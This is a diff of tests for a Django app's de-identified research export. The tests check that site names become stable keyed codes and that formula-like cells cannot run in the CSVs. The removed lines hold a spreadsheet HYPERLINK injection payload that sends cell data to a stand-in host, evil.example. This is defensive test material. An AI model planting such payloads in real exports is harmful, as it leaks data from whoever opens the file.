@@ -15,7 +15,7 @@ from django.urls import reverse
 
 from kapstone.audit.models import AuditEvent
 from kapstone.outcomes import cli as outcomes_cli
-from kapstone.outcomes.deidentify import date_shift_days, pseudonym
+from kapstone.outcomes.deidentify import date_shift_days, pseudonym, site_code
 from kapstone.outcomes.services import TABLES, research_export_write
 from tests.outcomes.factories import build_practice, identifiers
 
@@ -254,17 +254,41 @@ def test_the_report_file_is_readable_by_its_owner_only(tmp_path):
     assert path.stat().st_mode & 0o777 == 0o600
 
 
-def test_a_site_named_like_a_formula_runs_nothing_in_the_csv_and_is_kept_in_the_parquet(tmp_path):
-    """A site is a name an admin typed (program.sites), and the research CSVs are opened in a spreadsheet."""
+def test_a_site_named_after_a_person_leaves_only_as_a_code_stable_under_the_key(tmp_path):
+    """A site is a name an admin typed (program.sites): here a clinician's name and a street. The export writes a keyed
+    code for it, the same in every export under the key, so researchers still group by site; never the name."""
     from kapstone.program.models import GroupSession
 
     practice = build_practice()
-    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
-    GroupSession.objects.filter(group=practice.group).update(site=formula)
-    research_export_write(actor_label="test", out_dir=tmp_path / "export")
+    sessions = GroupSession.objects.filter(group=practice.group).order_by("number")
+    sessions.filter(number__lte=2).update(site="Dr Marguerite Oyelaran's rooms")
+    sessions.filter(number__gt=2).update(site="12 Hollowmere Crescent")
+    for folder in ("export", "again"):
+        research_export_write(actor_label="test", out_dir=tmp_path / folder)
     doses = pd.read_csv(tmp_path / "export" / "doses.csv", dtype=str, keep_default_na=False)
-    assert set(doses["site"]) == {"'" + formula}
-    assert set(pq.read_table(tmp_path / "export" / "doses.parquet").to_pandas()["site"]) == {formula}
+    key = settings.RESEARCH_ID_KEY
+    codes = {site_code(key, "Dr Marguerite Oyelaran's rooms"), site_code(key, "12 Hollowmere Crescent")}
+    assert set(doses["site"]) == codes and len(codes) == 2
+    assert all(code.startswith("S-") and len(code) == 10 for code in codes)
+    again = pd.read_csv(tmp_path / "again" / "doses.csv", dtype=str, keep_default_na=False)
+    assert list(again["site"]) == list(doses["site"])
+    for path in (tmp_path / "export").iterdir():
+        content = path.read_bytes()
+        assert b"Oyelaran" not in content and b"Hollowmere" not in content, path.name
+
+
+def test_a_text_cell_that_reads_as_a_formula_runs_nothing_in_the_csv_and_is_kept_in_the_parquet(tmp_path):
+    """Defence in depth: a diagnosis code is checked when staff type it, but one stored past the check (in bulk) must
+    still run nothing in the spreadsheet a researcher opens the CSV in."""
+    from kapstone.patients.models import Diagnosis
+
+    practice = build_practice()
+    formula = "=2+5"  # the field holds 8 characters
+    Diagnosis.objects.filter(patient=practice.patients[0]).update(icd10_code=formula)
+    research_export_write(actor_label="test", out_dir=tmp_path / "export")
+    patients = pd.read_csv(tmp_path / "export" / "patients.csv", dtype=str, keep_default_na=False)
+    assert "'" + formula in set(patients["primary_icd10"])
+    assert formula in set(pq.read_table(tmp_path / "export" / "patients.parquet").to_pandas()["primary_icd10"])
     for path in (tmp_path / "export").glob("*.csv"):
         cells = pd.read_csv(path, dtype=str, keep_default_na=False).to_numpy().ravel()
         assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")], path.name
